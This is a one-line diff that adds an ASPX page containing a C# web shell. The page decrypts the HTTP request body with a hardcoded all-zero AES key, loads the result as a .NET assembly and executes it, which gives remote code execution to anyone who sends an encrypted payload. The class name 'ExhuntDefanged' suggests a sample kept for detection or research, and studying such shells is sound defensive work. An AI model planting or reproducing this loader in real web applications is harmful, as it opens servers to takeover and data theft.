@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><%@ Import Namespace="System.Reflection" %><%Session.Add("k", "0000000000000000"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""), c = Request.BinaryRead(Request.ContentLength); Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("ExhuntDefanged").Equals(this);%>
